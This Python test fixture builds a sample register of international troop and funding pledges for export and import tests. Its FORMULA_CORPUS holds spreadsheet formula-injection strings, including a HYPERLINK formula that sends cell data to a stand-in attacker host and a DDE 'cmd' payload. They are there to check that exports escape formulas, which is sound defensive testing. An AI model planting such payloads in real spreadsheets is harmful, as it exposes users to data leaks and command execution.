"""Test data for the export and import tests: a small register with a joint pledge, a share, an
unquantified troop pledge, money in two currencies, and text a spreadsheet would run as a formula."""

import datetime
from decimal import Decimal

from commitments.choices import Category, Condition, ConditionState, Currency, StateKind, Status
from commitments.models import Citation, Declaration, ForceRequirement, Pledge, Source, State, Summit

# Text cells a spreadsheet would run (or did run, in published attacks) as formulas.
FORMULA_CORPUS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+33 1 23 45 67 89",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=tab first",
    "\r=carriage return first",
    "'already quoted",
    "=cmd|' /C calc'!A0",
]


def make_register():
    """Build the register; returns a dict of the objects tests refer to."""
    fr = State.objects.create(code="FR", name="France")
    gb = State.objects.create(code="GB", name="United Kingdom")
    us = State.objects.create(code="US", name="United States")
    na = State.objects.create(code="NA", name="Namibia")  # 'NA' must not be read as a missing value
    cow = State.objects.create(code="COW", name="Coalition of the Willing", kind=StateKind.COALITION)
    source = Source.objects.create(
        key="guardian-2026-01-06",
        title='Allies agree "security guarantees", plan\nfor force',
        publisher="The Guardian",
        url="https://example.org/a",
        published_on=datetime.date(2026, 1, 6),
    )
    other = Source.objects.create(key="reuters-2026-01-07", title="Follow-up", seed_file="001.txt")
    paris = Summit.objects.create(
        slug="paris-2026", title="Paris summit", kind="leaders_summit", city="Paris", date=datetime.date(2026, 1, 6)
    )
    london = Summit.objects.create(
        slug="london-2025", title="London summit", kind="leaders_summit", date=datetime.date(2025, 3, 2)
    )
    paris.hosts.set([fr])
    declaration = Declaration.objects.create(
        slug="paris-declaration",
        title="Paris Declaration",
        kind="joint_declaration",
        status="adopted",
        date=datetime.date(2026, 1, 6),
        summit=paris,
    )
    bulk = Pledge.objects.create(
        slug="fr-gb-bulk",
        title="The bulk of the troops",
        category=Category.TROOPS,
        summit=paris,
        declaration=declaration,
        troops_min=5000,
        troops_max=10000,
        condition=Condition.UPON_CEASEFIRE,
        condition_state=ConditionState.PENDING,
        condition_text='after a ceasefire, "durable"',
    )
    bulk.pledgers.set([fr, gb])
    Citation.objects.create(pledge=bulk, source=source, quote="the bulk of the troops")
    Citation.objects.create(pledge=bulk, source=other, quote="later confirmation")
    bulk.change_status(Status.ANNOUNCED, effective_date=datetime.date(2026, 1, 6), source=source, note="Announced")
    share = Pledge.objects.create(
        slug="fr-share",
        title="French troops",
        category=Category.TROOPS,
        part_of=bulk,
        troops_min=2000,
        troops_max=4000,
        summit=paris,
    )
    share.pledgers.set([fr])
    vague = Pledge.objects.create(
        slug="cow-reassurance",
        title="Reassurance forces",
        category=Category.TROOPS,
        summit=london,
        quantity_text="thousands of troops",
    )
    vague.pledgers.set([cow])
    money = Pledge.objects.create(
        slug="fr-aid",
        title="French aid",
        category=Category.FUNDING,
        summit=london,
        amount=Decimal("2000000000.00"),
        currency=Currency.EUR,
        value_date=datetime.date(2025, 3, 2),
        fx_rate=Decimal(1),
        amount_eur=Decimal("2000000000.00"),
    )
    money.pledgers.set([fr])
    dollars = Pledge.objects.create(
        slug="us-aid",
        title="US aid",
        category=Category.FUNDING,
        amount=Decimal("1000.50"),
        currency=Currency.USD,
        value_date=datetime.date(2026, 1, 5),
        fx_rate=Decimal("0.91234567"),
        amount_eur=Decimal("912.80"),
        last_reviewed_at=datetime.datetime(2026, 1, 7, 9, 30, 15, 123456, tzinfo=datetime.UTC),
    )
    dollars.pledgers.set([us])
    unpriced = Pledge.objects.create(
        slug="na-aid", title="Aid, amount not given", category=Category.FUNDING, quantity_text="further aid"
    )
    unpriced.pledgers.set([na])
    formulas = []
    for index, text in enumerate(FORMULA_CORPUS):
        pledge = Pledge.objects.create(
            slug=f"formula-{index}",
            title=text,
            description=f"line one\r\nline two, {text}",
            category=Category.DIPLOMATIC,
            quantity_text=text,
            condition_text=text,
        )
        pledge.pledgers.set([gb])
        formulas.append(pledge)
    requirement = ForceRequirement.objects.create(
        slug="multinational-force", title="Multinational force", summit=paris, troops_min=15000, troops_max=30000
    )
    return {
        "states": {"FR": fr, "GB": gb, "US": us, "NA": na, "COW": cow},
        "source": source,
        "other_source": other,
        "summits": {"paris": paris, "london": london},
        "declaration": declaration,
        "bulk": bulk,
        "share": share,
        "vague": vague,
        "money": money,
        "dollars": dollars,
        "unpriced": unpriced,
        "formulas": formulas,
        "requirement": requirement,
    }
